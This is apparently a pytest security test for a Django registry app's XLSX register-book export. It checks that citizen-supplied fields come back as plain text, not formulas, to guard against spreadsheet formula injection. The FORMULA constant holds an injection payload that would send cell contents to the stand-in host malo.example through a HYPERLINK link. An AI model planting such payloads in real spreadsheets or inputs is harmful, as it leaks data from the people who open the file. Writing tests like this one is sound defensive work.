"""Security review of the registro: what outsiders typed must come back as text."""

from __future__ import annotations

import io

import pytest
from django_tenants.utils import schema_context
from openpyxl import load_workbook

from registro.services import registrar
from tests.conftest import HOST_A

from .conftest import datos, persona

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://malo.example/?d="&A2,"Pulse aquí")'


def test_libro_xlsx_writes_citizen_text_as_text_not_formulas(client_for, province):
    """A citizen chooses the resumen (the sede copies «Solicita»), the asunto of a SIR
    file and their own name: starting one with «=» must not become a formula that runs
    in the clerk's spreadsheet (CSV/formula injection)."""
    with schema_context(province.a.schema_name):
        asiento = registrar(**datos(
            canal="sede", asunto="+SUM(1,1)", resumen=FORMULA,
            interesados=[persona(nombre="@SUM(1+1)", apellido1="-2+3")]),
            acting_user=province.clerk_a)
    day = asiento.fecha_presentacion.astimezone().date().isoformat()
    client = client_for(province.clerk_a, HOST_A)
    response = client.get(f"/gestion/registro/libro/?libro=E&desde={day}&hasta={day}"
                          "&formato=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    [row] = [r for r in sheet.iter_rows(min_row=2) if r[0].value == asiento.numero_registro]
    asunto, resumen, interesados = row[4], row[5], row[6]
    assert [c.data_type for c in (asunto, resumen, interesados)] == ["s", "s", "s"]
    assert (asunto.value, resumen.value) == ("+SUM(1,1)", FORMULA)
    assert interesados.value.startswith("@SUM(1+1) -2+3")
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)
